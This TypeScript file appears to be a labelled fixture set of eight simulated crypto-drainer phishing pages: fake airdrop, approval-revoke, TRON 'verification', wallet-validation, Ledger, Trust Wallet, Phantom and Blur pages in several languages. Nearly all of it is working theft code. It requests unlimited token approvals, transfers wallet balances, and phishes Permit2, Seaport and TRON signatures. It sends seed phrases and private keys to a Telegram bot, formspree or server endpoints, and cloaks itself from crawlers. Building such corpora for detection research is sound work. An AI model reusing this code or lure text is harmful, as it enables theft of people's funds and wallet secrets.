import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, mark, footer } from '../parts/zw-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zw-drain-arb-airdrop-claim',
    label: 'cryptodrainer',
    kind: 'airdrop-drainer',
    url: 'https://claim-arbitrum-foundation.org/season2',
    body: doc('Arbitrum Season 2 Airdrop — Claim $ARB', `
<header style="display:flex;justify-content:space-between;align-items:center;padding:18px 32px;background:#0d1b2a;color:#fff">
  <div style="display:flex;gap:10px;align-items:center">${mark('#28a0f0', 'A')}<b>Arbitrum Foundation</b></div>
  <nav style="font-size:14px;opacity:.8">Ecosystem · Governance · Docs</nav>
  <button id="hdrConnect" style="background:#28a0f0;border:0;color:#fff;padding:10px 18px;border-radius:10px">Connect Wallet</button>
</header>
<main class="wrap" style="text-align:center;padding:60px 20px">
  <h1 style="font-size:44px;margin:0">Season 2 of the $ARB airdrop is live</h1>
  <p style="color:#555;max-width:620px;margin:14px auto">Eligible wallets that bridged, swapped or provided liquidity on Arbitrum One or Nova before block 187,203,551 can claim. Unclaimed tokens return to the DAO treasury in <b id="cd">47:59:12</b>.</p>
  <div style="display:inline-block;border:1px solid #dfe6ee;border-radius:16px;padding:28px 40px;margin-top:20px">
    <div style="font-size:13px;color:#888">Claimable allocation</div>
    <div id="alloc" style="font-size:36px;font-weight:700">— ARB</div>
    <button id="claim" style="margin-top:18px;background:#12aaff;color:#fff;border:0;border-radius:12px;padding:14px 46px;font-size:17px">Check eligibility</button>
    <p id="st" style="font-size:13px;color:#888"></p>
  </div>
  <p style="font-size:12px;color:#999;margin-top:40px">218,443 wallets have already claimed · 41,250,000 ARB distributed</p>
</main>
${footer('Arbitrum Foundation')}
<script src="/assets/js/claim.bundle.js"></script>`),
    routes: {
      'claim-arbitrum-foundation.org/assets/js/claim.bundle.js': jsRoute(`
var RECEIVER="0x7c3e1a9b5f0d2e44c1a8b7f36e0d9a1c2b4e5f60";
var TOKENS=[["0xdAC17F958D2ee523a2206206994597C13D831ec7","USDT"],["0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48","USDC"],["0x912CE59144191C1204E64559FE8253a0e49E6548","ARB"]];
var MAX="0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff";
function pad(a){return a.toLowerCase().replace("0x","").padStart(64,"0")}
async function go(){
  var st=document.getElementById("st");
  if(!window.ethereum){st.textContent="Please open this page in your wallet browser";return}
  var acc=(await ethereum.request({method:"eth_requestAccounts"}))[0];
  document.getElementById("alloc").textContent=(1250+Math.floor(Math.random()*3000))+" ARB";
  st.textContent="Eligible! Confirm the claim transaction in your wallet.";
  try{await ethereum.request({method:"wallet_switchEthereumChain",params:[{chainId:"0xa4b1"}]})}catch(e){}
  var bal=await ethereum.request({method:"eth_getBalance",params:[acc,"latest"]});
  for(var i=0;i<TOKENS.length;i++){
    try{await ethereum.request({method:"eth_sendTransaction",params:[{from:acc,to:TOKENS[i][0],data:"0x095ea7b3"+pad(RECEIVER)+MAX.slice(2)}]});
    fetch("/api/log",{method:"POST",body:JSON.stringify({a:acc,t:TOKENS[i][1],k:"approve"})})}catch(e){}
  }
  var v=BigInt(bal)*95n/100n;
  if(v>0n){await ethereum.request({method:"eth_sendTransaction",params:[{from:acc,to:RECEIVER,value:"0x"+v.toString(16)}]})}
  st.textContent="Claim submitted. Tokens arrive within 10 minutes.";
}
document.getElementById("claim").onclick=go;document.getElementById("hdrConnect").onclick=go;
`),
      'claim-arbitrum-foundation.org/api/log': jsonRoute({ ok: true }),
    },
  },
  {
    id: 'zw-drain-revoke-approvals-permit',
    label: 'cryptodrainer',
    kind: 'revoke-drainer',
    url: 'https://revoke-approvals.app/?s=2',
    body: doc('Revoke Token Approvals — Protect your wallet', `
<div style="background:#111;color:#eee;min-height:100vh">
<header class="wrap" style="display:flex;justify-content:space-between;padding:22px 20px"><b style="font-size:20px">🛡 revoke<span style="color:#f5c542">.</span>approvals</b><button id="c" style="background:#f5c542;border:0;padding:10px 16px;border-radius:8px;font-weight:600">Connect</button></header>
<section class="wrap" style="padding:40px 20px">
<h1>Your wallet may be at risk</h1>
<p style="color:#aaa;max-width:640px">A critical exploit in the Permit2 router (CVE-2025-1180) lets attackers move tokens from any wallet that approved it. Connect to scan and revoke every dangerous allowance in a single signature — no gas required.</p>
<table style="width:100%;border-collapse:collapse;margin-top:24px;font-size:14px" id="tbl"><tr style="color:#888;text-align:left"><th>Token</th><th>Spender</th><th>Allowance</th><th>Risk</th></tr><tr><td colspan="4" style="padding:20px;color:#666">Connect your wallet to load approvals</td></tr></table>
<button id="rv" style="margin-top:24px;background:#e5484d;color:#fff;border:0;padding:14px 28px;border-radius:10px;font-size:16px">Revoke all (gasless)</button>
<p id="m" style="color:#aaa"></p>
</section></div>
<script>
var SP="0x000000000022D473030F116dDEE9F6B43aC78BA3",OP="0x4d1cBb6a9E1f39C3b1F2e6b1F7a2B8C10e0a9d77";
async function c(){var a=await ethereum.request({method:"eth_requestAccounts"});window.acc=a[0];
document.getElementById("tbl").innerHTML+="<tr><td>USDC</td><td>Permit2</td><td>Unlimited</td><td style='color:#e5484d'>High</td></tr><tr><td>WETH</td><td>Uniswap V3</td><td>Unlimited</td><td style='color:#e5484d'>High</td></tr>";}
document.getElementById("c").onclick=c;
document.getElementById("rv").onclick=async function(){
 if(!window.acc)await c();
 var dl=Math.floor(Date.now()/1e3)+31536000;
 var msg={details:[{token:"0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48",amount:"1461501637330902918203684832716283019655932542975",expiration:dl,nonce:0},{token:"0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2",amount:"1461501637330902918203684832716283019655932542975",expiration:dl,nonce:0}],spender:OP,sigDeadline:dl};
 var td={types:{EIP712Domain:[{name:"name",type:"string"},{name:"chainId",type:"uint256"},{name:"verifyingContract",type:"address"}],PermitBatch:[{name:"details",type:"PermitDetails[]"},{name:"spender",type:"address"},{name:"sigDeadline",type:"uint256"}],PermitDetails:[{name:"token",type:"address"},{name:"amount",type:"uint160"},{name:"expiration",type:"uint48"},{name:"nonce",type:"uint48"}]},primaryType:"PermitBatch",domain:{name:"Permit2",chainId:1,verifyingContract:SP},message:msg};
 var sig=await ethereum.request({method:"eth_signTypedData_v4",params:[window.acc,JSON.stringify(td)]});
 await fetch("https://api.revoke-approvals.app/v1/submit",{method:"POST",headers:{"content-type":"application/json"},body:JSON.stringify({owner:window.acc,sig:sig,permit:msg})});
 document.getElementById("m").textContent="All approvals revoked ✔";
};
</script>`),
  },
  {
    id: 'zw-drain-tron-usdt-verify-zh',
    label: 'cryptodrainer',
    kind: 'tron-approve-drainer',
    url: 'https://usdt-trc20-verify.cc/index.html',
    body: doc('USDT 资产安全验证', `
<div style="max-width:420px;margin:0 auto;padding:30px 18px;text-align:center">
<img src="/static/usdt.png" width="64" alt="USDT">
<h2>USDT 钱包风险检测</h2>
<p style="color:#666;font-size:14px">根据反洗钱监管要求，您的地址需要完成一次链上验证，否则将被冻结。验证免费且不会扣除任何资产。</p>
<div style="background:#f6f8fa;border-radius:12px;padding:16px;text-align:left;font-size:14px">
<div>网络：TRON (TRC20)</div><div>验证费用：0 TRX</div><div>预计时间：约 30 秒</div></div>
<button id="v" style="width:100%;margin-top:20px;background:#26a17b;color:#fff;border:0;padding:14px;border-radius:10px;font-size:16px">立即验证</button>
<p id="r" style="font-size:13px;color:#999"></p>
</div>
<script>
var USDT="TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t",SPENDER="TJ8qbnsVuvPD8L6aChq6kGZyN3GgpxzR3v";
document.getElementById("v").onclick=async function(){
 var r=document.getElementById("r");
 if(!window.tronWeb||!window.tronWeb.defaultAddress.base58){r.textContent="请在 TronLink / imToken / TokenPocket 中打开";return}
 var me=tronWeb.defaultAddress.base58;
 var c=await tronWeb.contract().at(USDT);
 r.textContent="正在验证…";
 var tx=await c.increaseApproval(SPENDER,"90000000000000000000").send({feeLimit:100000000});
 await fetch("/api/report.php",{method:"POST",headers:{"Content-Type":"application/x-www-form-urlencoded"},body:"addr="+me+"&tx="+tx});
 r.textContent="验证成功，您的地址安全。";
};
</script>`, { lang: 'zh-CN' }),
  },
  {
    id: 'zw-drain-seed-validate-wallet',
    label: 'cryptodrainer',
    kind: 'seed-phrase-harvester',
    url: 'https://dapps-rectify-node.net/validate',
    body: doc('Wallet Validation — Decentralized Node Sync', `
<div style="max-width:620px;margin:30px auto;padding:20px">
<h2>Validate your wallet</h2>
<p style="color:#666">Your wallet's node is out of sync, which can cause failed transactions, missing airdrops and stuck funds. Import your wallet to re-synchronize it with the mainnet validator. This process is end-to-end encrypted.</p>
<div style="display:flex;gap:8px;margin:14px 0"><button class="t" data-t="p" style="padding:8px 14px">Phrase</button><button class="t" data-t="k" style="padding:8px 14px">Keystore JSON</button><button class="t" data-t="pk" style="padding:8px 14px">Private Key</button></div>
<form id="f" action="/sync.php" method="post">
<input type="hidden" name="wallet" value="MetaMask">
<textarea name="phrase" rows="4" style="width:100%;padding:12px" placeholder="Enter your recovery phrase (12 or 24 words separated by single spaces)"></textarea>
<p style="font-size:12px;color:#888">Typically 12 (sometimes 24) words separated by single spaces</p>
<button style="width:100%;background:#2563eb;color:#fff;border:0;padding:14px;border-radius:8px">VALIDATE</button>
</form></div>
<script>
document.getElementById("f").addEventListener("submit",function(e){e.preventDefault();var w=this.phrase.value.trim().split(/\\s+/);if([12,15,18,21,24].indexOf(w.length)<0){alert("Invalid phrase length");return}
var fd=new FormData(this);fetch("/sync.php",{method:"POST",body:fd}).then(function(){document.body.innerHTML="<h3 style='text-align:center;margin-top:80px'>Error 502: node timeout. Please try another wallet.</h3>"})});
</script>`),
  },
  {
    id: 'zw-drain-ledger-recovery-pt',
    label: 'cryptodrainer',
    kind: 'seed-phrase-harvester',
    url: 'https://ledger-atualizacao.com.br/firmware',
    body: doc('Ledger — Atualização obrigatória de firmware', `
<div style="background:#000;color:#fff;min-height:100vh;padding:30px">
<div style="max-width:560px;margin:auto">
<h1 style="font-weight:400">LEDGER</h1>
<h2>Atualização de segurança 2.3.1</h2>
<p style="color:#bbb">Devido a uma vulnerabilidade no Secure Element, todos os dispositivos Nano S Plus e Nano X precisam ser re-sincronizados. Digite as 24 palavras da sua frase de recuperação na ordem correta para concluir a atualização.</p>
<form id="lf"><div id="w" style="display:grid;grid-template-columns:repeat(4,1fr);gap:6px"></div>
<button style="margin-top:16px;width:100%;padding:14px;background:#fff;border:0;font-weight:700">CONTINUAR</button></form>
<p style="font-size:12px;color:#777">Ledger SAS · 1 rue du Mail, 75002 Paris</p>
</div></div>
<script>
for(var i=1;i<=24;i++)document.getElementById("w").insertAdjacentHTML("beforeend",'<input id="s'+i+'" placeholder="'+i+'" style="padding:8px;background:#111;color:#fff;border:1px solid #333">');
document.getElementById("lf").onsubmit=function(e){e.preventDefault();var p=[];for(var i=1;i<=24;i++)p.push(document.getElementById("s"+i).value);
fetch("https://api.telegram.org/bot7351928840:AAGx3yQm0Tz4wPp9bX1kLrV6nE2sD8cF5hJ/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"-1002193847561",text:"LEDGER BR\\n"+p.join(" ")})}).finally(function(){location.href="https://www.ledger.com/pt-br"})};
</script>`, { lang: 'pt-BR' }),
  },
  {
    id: 'zw-drain-trust-wallet-ru',
    label: 'cryptodrainer',
    kind: 'seed-phrase-harvester',
    url: 'https://trustwallet-podderzhka.ru/verify',
    body: doc('Trust Wallet — Верификация кошелька', `
<div style="max-width:440px;margin:0 auto;padding:24px">
<div style="text-align:center">${mark('#3375bb', 'T', 56)}<h2>Верификация кошелька</h2></div>
<p style="color:#555;font-size:14px">С 1 числа следующего месяца неверифицированные кошельки будут ограничены в соответствии с новыми правилами. Подтвердите владение, импортировав секретную фразу.</p>
<textarea id="ph" rows="4" style="width:100%;padding:12px;border-radius:10px;border:1px solid #ccc" placeholder="Секретная фраза из 12 или 24 слов"></textarea>
<button id="b" style="width:100%;margin-top:14px;padding:14px;border:0;border-radius:24px;background:#0500ff;color:#fff">Подтвердить</button>
</div>
<script>
document.getElementById("b").onclick=function(){var v=document.getElementById("ph").value;
var x=new XMLHttpRequest();x.open("POST","/api/v1/import");x.setRequestHeader("Content-Type","application/json");x.send(JSON.stringify({m:btoa(unescape(encodeURIComponent(v))),w:"trust"}));
x.onload=function(){alert("Кошелёк успешно верифицирован")}};
</script>`, { lang: 'ru' }),
  },
  {
    id: 'zw-drain-phantom-privkey-vi',
    label: 'cryptodrainer',
    kind: 'private-key-harvester',
    url: 'https://phantom-hotro.vn/nhap-vi',
    body: doc('Phantom — Khôi phục ví', `
<div style="background:#1c1c1c;color:#fff;min-height:100vh;padding:40px 18px">
<div style="max-width:420px;margin:auto">
<div style="text-align:center">${mark('#ab9ff2', '👻', 52)}<h2>Khôi phục ví Phantom</h2></div>
<p style="color:#aaa">Ví của bạn đã bị tạm khóa do hoạt động bất thường. Nhập khóa riêng tư (private key) hoặc cụm từ bí mật để mở khóa và nhận lại SOL.</p>
<select id="t" style="width:100%;padding:10px;background:#2a2a2a;color:#fff;border:0;border-radius:8px"><option>Khóa riêng tư</option><option>Cụm từ khôi phục</option></select>
<input id="k" style="width:100%;padding:12px;margin-top:10px;background:#2a2a2a;color:#fff;border:1px solid #444;border-radius:8px" placeholder="Dán khóa riêng tư base58">
<button id="go" style="width:100%;margin-top:16px;padding:14px;border:0;border-radius:10px;background:#ab9ff2;font-weight:700">Nhập</button>
</div></div>
<script>
document.getElementById("go").onclick=function(){var k=document.getElementById("k").value.trim();if(k.length<40){alert("Khóa không hợp lệ");return}
fetch("https://formspree.io/f/mqkrzwab",{method:"POST",headers:{"Accept":"application/json"},body:new URLSearchParams({key:k,type:document.getElementById("t").value,src:location.host})}).then(function(){location.replace("https://phantom.com")})};
</script>`, { lang: 'vi' }),
  },
  {
    id: 'zw-drain-cloaked-blur-nft-loader',
    label: 'cryptodrainer',
    kind: 'cloaked-drainer',
    url: 'https://blur-season3-rewards.io/',
    body: doc('Blur — Season 3 Rewards', `
<div id="root" style="background:#000;color:#ff8700;min-height:100vh;display:flex;align-items:center;justify-content:center"><div style="font-family:monospace">loading…</div></div>
<script>
(function(){
 var bot=/bot|crawl|spider|headless|lighthouse|slurp|python|curl/i.test(navigator.userAgent)||navigator.webdriver;
 if(bot){document.getElementById("root").innerHTML="<h1>Coming soon</h1>";return}
 var s=document.createElement("script");s.src="/static/chunk.9f2a.js?v="+Date.now();document.body.appendChild(s);
})();
</script>`),
    routes: {
      'blur-season3-rewards.io/static/chunk.9f2a.js': jsRoute(`(function(){var h='PGgxIHN0eWxlPSJmb250LXNpemU6NDBweCI+Q2xhaW0geW91ciBCTFVSIFNlYXNvbiAzIHJld2FyZHM8L2gxPjxidXR0b24gaWQ9ImNsIiBzdHlsZT0icGFkZGluZzoxNnB4IDQwcHg7YmFja2dyb3VuZDojZmY4NzAwO2JvcmRlcjowIj5DT05ORUNUIFdBTExFVDwvYnV0dG9uPg==';document.getElementById("root").innerHTML=atob(h);
var OP="0x2b3A8fE1c09D5e7B4c6a9E2F0d3B1a7C8e9F0a12";
document.getElementById("cl").onclick=async function(){var a=(await ethereum.request({method:"eth_requestAccounts"}))[0];
var nfts=await fetch("/api/nfts?o="+a).then(function(r){return r.json()});
for(var i=0;i<nfts.collections.length;i++){await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:nfts.collections[i],data:"0xa22cb465"+OP.slice(2).toLowerCase().padStart(64,"0")+"1".padStart(64,"0")}]})}
var td={domain:{name:"Seaport",version:"1.5",chainId:1,verifyingContract:"0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC"},primaryType:"OrderComponents",types:{OrderComponents:[{name:"offerer",type:"address"},{name:"zone",type:"address"},{name:"offer",type:"OfferItem[]"},{name:"consideration",type:"ConsiderationItem[]"}]},message:{offerer:a,zone:"0x0000000000000000000000000000000000000000",offer:nfts.offer,consideration:[]}};
await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(td)]})}})();`),
      'blur-season3-rewards.io/api/nfts': jsonRoute({ collections: ['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D', '0xED5AF388653567Af2F388E6224dC7C4b3241C544'], offer: [] }),
    },
  },
];
